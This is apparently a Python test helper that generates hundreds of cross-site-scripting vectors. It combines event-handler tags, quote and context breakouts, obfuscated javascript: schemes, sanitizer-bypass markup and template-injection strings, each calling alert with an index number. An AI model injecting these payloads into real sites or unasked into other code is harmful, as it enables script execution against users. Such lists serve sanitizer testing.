"""Texts that run a script where they become markup, made from tags × handlers × quotes × encodings.

Each vector calls alert(N) with a number of its own, so that a hit tells which one it was.
"""

HANDLERS = {
    "img": ("src=x", "onerror"),
    "svg": ("", "onload"),
    "body": ("", "onload"),
    "input": ("autofocus", "onfocus"),
    "video": ("src=x", "onerror"),
    "audio": ("src=x", "onerror"),
    "iframe": ("", "onload"),
    "details": ("open", "ontoggle"),
    "object": ("data=x:", "onerror"),
    "marquee": ("", "onstart"),
    "style": ("", "onload"),
    "link": ("rel=stylesheet href=x.css", "onerror"),
    "script": ("src=x.js", "onerror"),
}
SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "java\tscript:{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&colon;{}", "javascript&#58;{}",
    "%6Aavascript:{}", "java%0ascript:{}", " javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>",
    "blob:{}", "filesystem:{}", "ms-msdt:{}", "view-source:javascript:{}", "//evil.example/{}",
    "\\\\evil.example/{}", "/\\evil.example/{}", "javascript://%0a{}", "livescript:{}", "feed:javascript:{}",
]
BREAKS = ["", "\"", "'", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</svg>", "`"]
WHOLE = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script >{}</script >", "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script>", "<svg><script>{}</script></svg>",
    "<svg><script>&#97;lert(1);{}</script></svg>", "<math><mtext><script>{}</script></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<table><script>{}</script></table>",
    "<style><img src=\"</style><img src=x onerror={}>\">", "<template><script>{}</script></template><svg onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<form action=\"javascript:{}\"><input type=submit autofocus></form>", "<base href=\"javascript:/a/\"><a href=\"{}\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<svg><a xlink:href=\"javascript:{}\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>", "<svg><set onbegin={} attributeName=x dur=1s></svg>",
    "<xss style=\"animation-name:x\" onanimationstart={}>", "<div style=\"width:expression({})\">",
    "<a href=\"javascript:{}\">x</a>", "<area href=\"javascript:{}\">", "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>", "<?xml ?><img src=x onerror={}>", "</p><img src=x onerror={}><p>",
    "<img src=x onerror=\"{}\"", "<img/src=x/onerror={}>", "<img src=x\nonerror={}>", "<<img src=x onerror={}>>",
    "<img src=\"x` `<script>{}</script>\"` `>", "{{constructor.constructor('{}')()}}", "${{{}}}", "<%= {} %>", "{% {} %}",
]


def vectors():
    """All vectors, on one line each, without the sign that ends a cell of a table."""
    made = []

    def add(template):
        call = f"alert({len(made)})"
        made.append(template.replace("{}", call))

    for start in BREAKS:
        for tag, (attributes, handler) in HANDLERS.items():
            for quote in ("", "\"", "'"):
                add(f"{start}<{tag} {attributes} {handler}={quote}{{}}{quote}>".replace("  ", " "))
    for template in WHOLE:
        add(template)
    for start in BREAKS[1:5]:
        for handler in ("onmouseover", "onfocus", "onpointerenter", "onanimationstart"):
            add(f"{start} {handler}={{}} autofocus tabindex=0 x=")
    for scheme in SCHEMES:
        for form in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}", "<a href=\"{}\">x</a>", "<img src=\"{}\">"):
            add(form.replace("{}", scheme))
    return [vector.replace("\n", " ").replace("|", "") for vector in made]
